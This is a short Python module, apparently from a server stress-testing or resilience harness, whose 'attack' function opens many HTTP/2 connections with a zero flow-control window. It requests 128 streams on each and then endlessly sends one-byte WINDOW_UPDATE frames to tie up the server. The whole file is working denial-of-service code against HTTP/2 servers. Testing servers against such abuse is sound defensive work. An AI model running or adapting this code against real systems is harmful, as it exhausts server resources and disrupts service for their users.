"""Windows of one byte for each of 128 streams, again and again."""

import wire


def attack(victim):
    windows = b"".join(wire.window_update(1 + 2 * number, 1) for number in range(wire.STREAMS))

    def dribble(_):
        connection = victim.http2(window=0)
        try:
            asked = [connection.request("/fetch/good/hit-0", last=999_999) for _ in range(wire.STREAMS)]
            connection.send(b"".join(frame for _, frame in asked) + wire.window_update(0, 1 << 30))
            while True:
                connection.send(windows)
                connection.drain()
        finally:
            connection.close()

    wire.crowd(1 * victim.scale, dribble)
    victim.begun()
